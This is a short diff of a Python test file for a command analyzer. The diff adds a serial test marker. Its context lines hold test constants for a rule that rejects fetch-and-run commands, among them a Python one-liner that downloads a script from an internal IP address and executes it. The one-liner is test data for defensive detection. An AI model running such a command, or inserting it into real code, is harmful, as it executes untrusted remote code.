@@ -23,6 +23,9 @@ import redteam_kit as kit
 from conftest import run_cli
 from analyzer.model import Decision
 
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
+
 REJECTED = "remote-code.fetch-and-run-command"
 _IMPORT = "'import urllib.request;'"
 _FETCH = "'exec(urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'"
